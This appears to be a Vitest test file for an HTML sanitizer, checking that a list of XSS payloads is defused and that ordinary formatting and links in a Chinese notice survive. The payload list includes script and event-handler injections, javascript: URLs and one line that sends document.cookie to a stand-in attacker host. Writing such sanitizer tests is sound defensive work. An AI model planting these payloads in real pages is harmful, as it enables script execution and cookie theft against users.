import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from './sanitize-html';

/** Payloads after DOMPurify's own fixtures and OWASP's XSS filter evasion cheat sheet. */
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="https://evil.example.com"></iframe>',
  '<form action="https://evil.example.com"><input name=a></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="//evil.example.com">x</a>',
  '<object data="javascript:alert(1)"></object>',
  '<body onload=alert(1)>',
  '<img src="x" onerror="fetch(\'https://evil.example.com?c=\'+document.cookie)">',
];

describe('sanitizeHtml', () => {
  it.each(HOSTILE)('defuses %s', (payload) => {
    const host = document.createElement('div');
    host.innerHTML = sanitizeHtml(payload);
    expect(host.querySelector('script, iframe, form, input, object, style')).toBeNull();
    for (const element of Array.from(host.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        expect(attribute.name).not.toMatch(/^on/i);
        expect(attribute.name).not.toBe('style');
        expect(attribute.value).not.toMatch(/javascript:|data:/i);
      }
    }
    expect(host.querySelector('a[href^="//"]')).toBeNull();
  });

  it('keeps the formatting and the links a notice needs', () => {
    const html =
      '<p>请进入 <a href="#/dgtwj">多托管文件签收</a>，<strong>尽快</strong>确认。</p>' +
      '<ul><li><a href="https://www.amac.org.cn" target="_top">协会</a></li>' +
      '<li><a href="mailto:service@example.com">邮箱</a></li></ul>';
    const host = document.createElement('div');
    host.innerHTML = sanitizeHtml(html);
    expect(host.querySelector('strong')?.textContent).toBe('尽快');
    expect(host.querySelector('a[href="#/dgtwj"]')).not.toBeNull();
    const external = host.querySelector('a[href="https://www.amac.org.cn"]');
    expect(external?.getAttribute('target')).toBe('_blank');
    expect(external?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(host.querySelector('a[href^="mailto:"]')).not.toBeNull();
  });
});
